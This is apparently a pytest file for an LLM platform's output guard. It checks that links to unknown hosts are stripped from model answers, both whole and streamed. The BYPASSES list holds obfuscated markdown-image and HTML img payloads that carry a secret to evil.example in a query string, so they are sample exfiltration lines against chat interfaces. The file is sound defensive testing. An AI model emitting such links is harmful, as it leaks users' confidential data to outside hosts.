"""Links an answer may carry out: parsed as a browser parses them (WHATWG), so no spelling of a
link to an unknown host survives — protocol-relative, one slash, backslashes, no slashes, or
written with HTML character references — whether the answer comes whole or streamed."""

from __future__ import annotations

import httpx
import pytest

from conftest import default_models
from hanchang.guard.links import REMOVED, known_links, neutralise_links
from hanchang.guard.output import OutputGuard

SECRET = "감사결과3건"
BYPASSES = [
    f"![chart](//evil.example/p.png?d={SECRET})",
    f"![chart](http:/evil.example/p.png?d={SECRET})",
    f"![chart](http:\\\\evil.example/p.png?d={SECRET})",
    f"![chart](https:evil.example/p.png?d={SECRET})",
    f"![chart](\\\\evil.example/p.png?d={SECRET})",
    f"![chart](\\/\\/evil.example/p.png?d={SECRET})",
    f'<img src="//evil.example/p.png?d={SECRET}">',
    f'<img src="&#47;&#47;evil.example/p.png?d={SECRET}">',
    f"![chart](HTTPS://EVIL.example/p.png?d={SECRET})",
    f"![chart](//evil%2Eexample/p.png?d={SECRET})",
    f"링크http://evil.example/?d={SECRET}",
    f"www.evil.example/?d={SECRET}",
]


@pytest.mark.parametrize("text", BYPASSES)
def test_every_spelling_of_an_unknown_link_is_removed(text):
    out, removed = neutralise_links(f"답변입니다. {text} 끝", set())
    assert removed == 1 and "evil" not in out.lower() and SECRET not in out, out
    assert REMOVED in out


def test_known_links_pass_in_any_spelling_and_plain_text_is_untouched():
    allowed = known_links("출처: https://www.law.go.kr/법령/개인정보보호법 참고")
    answer = "근거는 https://www.law.go.kr/법령/개인정보보호법 와 //www.law.go.kr/법령/개인정보보호법 입니다."
    out, removed = neutralise_links(answer, allowed)
    assert removed == 0 and out.count("law.go.kr") == 2
    plain = "비고: 시간은 10:30, 비율 3:1, 이메일 kim@mois.go.kr, 경로 /api/v1 와 mailto:kim@mois.go.kr 입니다."
    assert neutralise_links(plain, set()) == (plain, 0)


def test_a_streamed_link_split_across_chunks_is_removed():
    guard = OutputGuard(None, set())
    pieces = ["요약: ![x](/", "/evil.exa", f"mple/p.png?d={SECRET}) 끝"]
    out = "".join(guard.feed(p) for p in pieces) + guard.flush()
    assert "evil" not in out and guard.links_removed == 1


def test_an_answer_through_v1_cannot_carry_data_out_in_an_image(platform_factory, upstream):
    upstream.behaviour.prefix = f"![그래프](//evil.example/p.png?d={SECRET}) "
    platform = platform_factory({"models": default_models(upstream.base_url)})
    for stream in (False, True):
        response = httpx.post(platform.v1 + "/chat/completions", headers=platform.headers(), timeout=30, json={
            "model": "internal-a", "stream": stream, "messages": [{"role": "user", "content": "요약해 줘"}]})
        assert response.status_code == 200 and "evil.example" not in response.text, response.text
